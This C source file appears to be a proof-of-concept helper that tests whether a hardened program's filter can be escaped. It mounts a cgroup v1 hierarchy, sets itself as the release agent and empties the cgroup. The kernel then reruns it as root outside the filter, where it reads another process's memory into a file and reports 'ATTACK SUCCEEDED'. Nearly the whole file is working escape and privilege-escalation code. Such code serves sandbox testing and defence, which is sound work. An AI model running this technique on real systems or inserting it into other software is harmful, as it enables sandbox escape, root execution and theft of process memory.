/* rev36-release-agent.c - a program run by execve under a hardened
 * program's filter (not our process): it names itself the release agent
 * of a cgroup v1 hierarchy it mounts, and empties a cgroup of it, so that
 * the kernel starts it again, as root and under no filter.
 *
 * rev36-release-agent PID ADDR: the attack. Started by the kernel (its
 * one argument the cgroup's path, "/PID-ADDR"): 31 bytes of PID's memory
 * at ADDR (hex) into the file named after itself with ".out". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "helper-steps.h"
#include "release-agent.h"

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  int ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
  if (fd >= 0)
    close(fd);
  return ok;
}

int main(int argc, char **argv) {
  if (argc == 2 && argv[1][0] == '/')
    return agent(argv[0], argv[1]);
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  char top[4200], dir[4300], file[4400], out[4200], buf[64] = {0};
  /* The control: a kernel setting opened for writing is refused. */
  int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
  printf("helper: plain open of core_pattern for writing: %s\n",
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0)
    close(fd);
  /* Next to itself: the agent's file is written in the initial mount
   * namespace, where this directory is the same. */
  snprintf(top, sizeof top, "%s.cg", argv[0]);
  snprintf(dir, sizeof dir, "%s/%s-%s", top, argv[1], argv[2]);
  snprintf(file, sizeof file, "%s/release_agent", top);
  if (!step(!unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)") ||
      !step(!mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL),
            "mount private") ||
      !step(!mkdir(top, 0700), "mkdir") ||
      !step(!mount("bh36", top, "cgroup", 0, "none,name=bh36"),
            "mount cgroup v1") ||
      !step(put(file, argv[0]), "write release_agent") ||
      !step(!mkdir(dir, 0755), "mkdir cgroup"))
    return 1;
  snprintf(file, sizeof file, "%s/notify_on_release", dir);
  if (!step(put(file, "1"), "write notify_on_release"))
    return 1;
  /* A child joins the cgroup and ends: the cgroup is empty, the kernel
   * runs the release agent. */
  snprintf(file, sizeof file, "%s/cgroup.procs", dir);
  pid_t c = fork();
  if (c == 0)
    _exit(put(file, "0") ? 0 : 1);
  int st = 0;
  waitpid(c, &st, 0);
  if (!step(WIFEXITED(st) && !WEXITSTATUS(st), "join the cgroup"))
    return 1;
  snprintf(out, sizeof out, "%s.out", argv[0]);
  for (int i = 0; i < 100; i++) { /* up to 10 s */
    fd = open(out, O_RDONLY);
    if (fd >= 0) {
      usleep(100000);
      if (read(fd, buf, sizeof buf - 1) < 0)
        buf[0] = 0;
      close(fd);
      break;
    }
    usleep(100000);
  }
  /* Tidy for a host run natively: the hierarchy ends with its last
   * cgroup and mount. */
  rmdir(dir);
  umount(top);
  rmdir(top);
  unlink(out);
  if (!strncmp(buf, "TOP-SECRET", 10))
    printf("ATTACK SUCCEEDED: the release agent, run by the kernel outside "
           "the filter, read '%s'\n",
           buf);
  else
    printf("helper: the agent's output: '%s'\n", buf);
  return 0;
}
